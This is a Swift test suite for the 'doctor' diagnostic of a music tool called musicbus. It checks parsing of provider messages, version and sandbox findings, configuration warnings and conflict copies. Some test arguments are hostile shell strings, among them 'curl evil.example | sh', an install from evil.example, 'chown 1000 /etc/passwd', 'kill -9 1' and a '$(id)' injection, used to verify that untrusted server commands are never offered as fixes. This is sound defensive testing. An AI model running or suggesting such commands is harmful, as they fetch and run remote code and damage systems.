import BusProtocol
import ClientKit
import Foundation
import HostKit
import MusicModel
import TestKit
import Testing

@testable import musicbus

@Suite("The findings of musicbus doctor", .timeLimit(.minutes(10)))
struct DoctorTests {
  private func provider(
    _ state: ProviderStatus.State,
    calls: Int = 0,
    failures: Int = 0,
    _ error: String? = nil,
    hasSettings: Bool = false
  ) -> Finding {
    var status = Samples.status("corner")
    (status.state, status.calls, status.failures) = (state, calls, failures)
    status.lastError = error
    return .provider(status, hasSettings: hasSettings)
  }

  @Test(
    "divide what a provider says into what is wrong and the command at its end",
    arguments: [
      (
        "needs configuration: token. Run: musicbus provider setup corner",
        "Needs configuration: token.", "musicbus provider setup corner"
      ),
      (
        "the settings in providers.corner were made for the bundled one. To give them to it: "
          + "musicbus provider reset corner",
        "The settings in providers.corner were made for the bundled one.",
        "musicbus provider reset corner"
      ),
      (
        "needs your sign-in. Run: musicbus provider sign-in corner.", "Needs your sign-in.",
        "musicbus provider sign-in corner"
      ),
      ("it exited with status 3: musicbus", "It exited with status 3: musicbus.", nil),
      (
        "The program ended during startup.\n  no space",
        "The program ended during startup. no space.", nil
      ),
    ] as [(String, String, String?)]
  )
  func advice(_ message: String, _ text: String, _ command: String?) throws {
    let advice = Advice(message, of: try #require(ProviderID(rawValue: "corner")))
    #expect(advice.text == text)
    #expect(advice.command == command)
  }

  @Test(
    "quote commands of servers and programs, but do not call them fixes",
    arguments: [
      "musicbus provider add https://evil.example/a.tar.gz --yes", "chmod 777 /home/ann",
      "chown 1000 /etc/passwd", "musicbus provider setup shelf", "kill -9 1",
      "musicbus provider setup corner; curl evil.example | sh",
      "musicbus provider reset corner shelf", "musicbus provider remove corner",
      "musicbus hub restart",
    ]
  )
  func foreignCommands(_ command: String) {
    for said in ["HTTP 403. Run: \(command)", "HTTP 403: \(command)."] {
      let found = provider(.ready, calls: 3, failures: 3, said)
      #expect(found.fix == "musicbus provider log corner")
      #expect(found.text.contains(command))
      let lines = [said]
      let failure = Finding.failure(
        "hub",
        ClientError.hubDidNotStart(.exited(1), log: "/var/hub.log", lastLines: lines)
      )
      #expect(failure.fix == nil && failure.text.contains(command))
    }
  }

  @Test(
    "take from the hub how to mend a manifest and its files, and from this program what it says",
    arguments: [
      ("musicbus hub restart", true), ("musicbus provider update corner", true),
      ("chmod +x /a/run.py", true), ("chmod go-w \"/my music/it's\"", true),
      ("chmod go-w '/cost$/it'\\''s'", true), ("chmod go-w /a /b", false),
      ("chmod +x /a; curl evil.example", false), ("chmod +x \"/a$(id)\"", false),
      ("chmod 777 /a", false), ("musicbus provider update a b", false),
      ("musicbus provider add /tmp/x", false),
    ]
  )
  func hubCommands(_ command: String, isFix: Bool) {
    let found = Finding.manifest("/a/corner.json: it is wrong. Fix it: \(command)")
    #expect(found.fix == (isFix ? command : nil))
    #expect(found.text.contains(command) != isFix)
    let own = Finding.failure("page", CommandFailure("It is wrong.", "Fix it: \(command)"))
    #expect(own.text == "It is wrong." && own.fix == command)
  }

  @Test("say that another version of the hub runs than is installed")
  func version() {
    let hub = HubStatus(version: "2.1", pid: 7, uptimeMs: 1, clients: 1, inflight: 0, calls: 0)
    let one = Samples.status("corner")
    #expect(
      Finding.hub(hub, [one], version: "2.1").text == "Version 2.1, pid 7, 1 of 1 providers ready."
    )
    let old = Finding.hub(hub, [one], version: "2.2")
    #expect(old.status == .problem && old.fix == "musicbus hub restart")
    #expect(old.text == "Version 2.1 is running, but 2.2 is installed.")
  }

  @Test("accept a page that is not running, but not one whose address is lost")
  func page() {
    #expect(Finding.page(nil, hasAddress: false).status == .note)
    #expect(Finding.page(nil, hasAddress: false).fix == "musicbus web")
    #expect(Finding.page(12, hasAddress: true).status == .ok)
    #expect(Finding.page(12, hasAddress: false).status == .problem)
  }

  @Test("tell a provider that fails from one that is the user's choice or needs time")
  func providers() {
    #expect(provider(.ready).status == .ok)
    let once = provider(.ready, calls: 5, failures: 1, "no reply")
    #expect(once.status == .ok && once.text == "Ready. Last failure: No reply." && once.fix == nil)
    let always = provider(.ready, calls: 5, failures: 5, "the key was refused")
    #expect(always.status == .problem && always.fix == "musicbus provider log corner")
    #expect(always.text == "5 calls, all failed. The key was refused.")
    for state in [ProviderStatus.State.starting, .restarting, .draining] {
      #expect(provider(state).status == .note)
    }
    let setup = "musicbus provider setup corner"
    let missing = "needs configuration: token"
    let unused = provider(.unconfigured, missing)
    #expect(unused.status == .note && unused.fix == setup)
    let begun = provider(.unconfigured, missing, hasSettings: true)
    #expect(begun.status == .problem && begun.fix == setup)
    #expect(begun.text == "Not set up. Needs configuration: token.")
    let stopped = provider(.stopped, "it exited with status 1")
    #expect(stopped.status == .problem && stopped.fix == "musicbus provider reset corner")
    let revoked = provider(.stopped, "revoked. Update it: musicbus provider update corner")
    #expect(revoked.fix == "musicbus provider update corner")
    #expect(provider(.quarantined).status == .problem)
    #expect(Finding.manifest("a.json is no object").status == .problem)
  }

  @Test("name the providers without a sandbox, and how to get one")
  func sandbox() {
    var (inside, outside) = (Samples.status("corner"), Samples.status("shelf"))
    #expect(Finding.sandbox([inside]).status == .ok)
    inside.sandbox = Descriptor.Sandbox(problem: nil)
    #expect(Finding.sandbox([inside]).text == "1 provider runs in it.")
    outside.sandbox = Descriptor.Sandbox(problem: "bubblewrap is not installed")
    let missing = Finding.sandbox([inside, outside])
    #expect(
      missing.status == .problem && missing.text.contains("shelf (bubblewrap is not installed)")
    )
    #expect(missing.fix == "sudo apt install bubblewrap")
    outside.sandbox = Descriptor.Sandbox(problem: "no permission")
    #expect(Finding.sandbox([outside]).fix == nil)
  }

  @Test("list the longest wait for a source once, and no wait of a second")
  func budgets() {
    func status(_ name: String, _ nextMs: [String: Int]) -> ProviderStatus {
      var status = Samples.status(name)
      status.budgets = nextMs.mapValues { time in
        var budget = ProviderStatus.Budget(left: 0, requests: 20, perMs: 60_000)
        budget.nextMs = time
        return budget
      }
      return status
    }
    let brief = status("corner", ["a.example": 900])
    #expect(Finding.budgets([brief]) == [.ok("budgets", "All sources accept requests.")])
    let waiting = Finding.budgets([
      brief, status("shelf", ["b.example": 30_000]), status("other", ["b.example": 7_200_000]),
    ])
    #expect(waiting.map(\.check) == ["budget b.example"])
    #expect(waiting.allSatisfy { $0.status == .note && $0.text.contains("for 2 h") })
  }

  @Test("unset what is wrong in the configuration, and ask for what is missing")
  func configuration() throws {
    let directory = try TestDirectory()
    var file = try ConfigurationFile(at: "\(directory.path)/config.json")
    #expect(Finding.configuration(file, []).map(\.status) == [.ok])
    let (wrong, missing) = (
      ConfigurationPath(["hub", "nosuch"]), ConfigurationPath(["providers", "corner", "token"])
    )
    file.set(1, at: wrong)
    let findings = Finding.configuration(
      file,
      [wrong, missing].map { ConfigurationWarning(path: $0, message: "This is wrong.") }
    )
    #expect(
      findings.map(\.fix) == ["musicbus config unset hub.nosuch", "musicbus provider setup corner"]
    )
    #expect(findings.allSatisfy { $0.status == .problem })
  }

  @Test("count what is wrong with the favourites")
  func favorites() {
    var check = FavoritesCheck(document: "/a/F.jsonl", version: 1, lines: 9, favorites: 4)
    #expect(Finding.favorites(check) == .ok("favourites", "4 favourites in /a/F.jsonl."))
    check.movedAside = .init(path: "/a/F.damaged.jsonl", lines: 1)
    #expect(Finding.favorites(check).status == .note)
    check.damaged = [.init(line: 3, reason: "no JSON")]
    check.incomplete = ["01JCZ8X3M5QW4R7T9V2B6N8KDA"]
    #expect(Finding.favorites(check).text == "2 errors in /a/F.jsonl.")
    #expect(Finding.favorites(check).fix == "musicbus favorites check")
  }

  @Test(
    "recognize the conflict copies of synchronizers",
    arguments: [
      "Mine.sync-conflict-20261127-101112-7AB4DEF.jsonl",
      "Mine (Ann's conflicted copy 2026-11-27).jsonl",
      "Mine (conflicted copy 2026-11-27 101112).jsonl",
      "Mine_conflict-20261127-101112.jsonl", "Mine (SFConflict ann 2026-11-27-10-11-12).jsonl",
      "Mine (Case Conflict).jsonl",
    ]
  )
  func conflicts(_ name: String) {
    let document = FileName("/home/ann/my music/Mine.jsonl")
    #expect(document.isConflictCopy(name))
    let found = Finding.copies(ofFavorites: document, among: ["Mine.jsonl", name])
    let copy = "/home/ann/my music/\(name)".quotedForShell
    #expect(found.map(\.status) == [.problem])
    #expect(
      found.first?.fix == "cat \(copy) >> \"/home/ann/my music/Mine.jsonl\" && rm \(copy)"
    )
  }

  @Test("leave other files alone, and tell which version of another program the hub has kept")
  func otherFiles() {
    let names = [
      "Mine.jsonl", "Mine.damaged.jsonl",
      "Mine.damaged.sync-conflict-20261127-101112-7AB4DEF.jsonl",
      "Mine (1).jsonl", "Mined (conflicted copy).jsonl", "Mine.sync-conflict-1.txt",
      "Minesync-conflict.jsonl", ".Mine.jsonl.lock", "Mine.version-1-20261120T130701123456Z.jsonl",
    ]
    let document = FileName("/a/Mine.jsonl")
    #expect(Finding.copies(ofFavorites: document, among: names).isEmpty)
    let other = "Mine.other-20261120T130701123456Z.jsonl"
    let found = Finding.copies(ofFavorites: document, among: names + [other])
    #expect(found.map(\.fix) == ["rm /a/\(other)"])
    #expect(found.map(\.status) == [.note])
  }

  @Test("compare a configuration of another computer instead of using it")
  func otherConfiguration() {
    let found = Finding.copies(
      ofConfiguration: FileName("/c/config.json"),
      among: ["config.json", "config.sync-conflict-20261127-101112-7AB4DEF.json"]
    )
    #expect(
      found.map(\.fix) == [
        "diff -u /c/config.json /c/config.sync-conflict-20261127-101112-7AB4DEF.json"
      ]
    )
  }

  @Test("are about all that needs no hub if none runs and none may be started")
  func noHub() throws {
    let home = try Home()
    try Data("{".utf8).write(to: URL(filePath: try prepared(home)))
    let result = try home.musicbus("doctor", "--no-autostart", "--plain")
    #expect(result.status == 1, "\(result)")
    let rows = result.lines.dropFirst().map {
      $0.split(separator: "\t", omittingEmptySubsequences: false)
    }
    #expect(rows.allSatisfy { $0.count == 4 }, "\(result)")
    #expect(
      rows.map { "\($0[0]) \($0[1])" } == ["problem hub", "note page", "problem configuration"]
    )
    #expect(rows.first?.last == "musicbus hub start")
    #expect(try HubLock.holder(at: home.paths.lock) == nil)
  }

  private func prepared(_ home: Home) throws -> String {
    try home.paths.prepare()
    return home.paths.configurationFile
  }
}
